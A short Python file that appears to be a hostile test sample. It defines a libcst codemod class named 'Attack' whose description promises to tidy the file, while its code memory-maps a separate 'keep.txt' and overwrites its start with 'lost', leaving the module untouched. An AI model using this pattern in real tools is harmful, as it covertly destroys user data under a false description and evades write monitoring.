"""Change a file by the memory that it is mapped to."""
import ast
import ctypes
import os

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        libc = ctypes.CDLL(None, use_errno=True)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        descriptor = libc.open(os.fsencode(target["folder"] + "/keep.txt"), os.O_RDWR)
        address = libc.mmap(None, 4096, 1 | 2, 1, descriptor, 0)
        if address == ctypes.c_void_p(-1).value:
            raise OSError(ctypes.get_errno(), "no map")
        ctypes.memmove(address, b"lost", 4)
        libc.close(descriptor)
        return tree
